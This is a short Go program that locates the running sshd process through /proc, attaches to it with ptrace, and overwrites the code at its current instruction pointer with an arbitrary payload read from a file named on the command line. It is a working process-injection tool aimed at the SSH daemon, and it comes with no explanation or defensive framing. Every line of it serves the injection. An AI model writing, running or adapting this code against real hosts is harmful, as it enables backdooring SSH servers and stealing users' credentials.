package main

import (
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"syscall"
)

func find(name string) int {
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if pid, err := strconv.Atoi(e.Name()); err == nil {
			b, _ := os.ReadFile("/proc/" + e.Name() + "/comm")
			if strings.TrimSpace(string(b)) == name && pid != os.Getpid() {
				return pid
			}
		}
	}
	return 0
}

func main() {
	runtime.LockOSThread()
	payload, err := os.ReadFile(os.Args[1])
	if err != nil {
		panic(err)
	}
	pid := find("sshd")
	if err := syscall.PtraceAttach(pid); err != nil {
		panic(err)
	}
	var ws syscall.WaitStatus
	syscall.Wait4(pid, &ws, 0, nil)
	var regs syscall.PtraceRegs
	syscall.PtraceGetRegs(pid, &regs)
	if _, err := syscall.PtracePokeText(pid, uintptr(regs.PC()), payload); err != nil {
		panic(err)
	}
	fmt.Printf("%d at %#x\n", pid, regs.PC())
	syscall.PtraceDetach(pid)
}
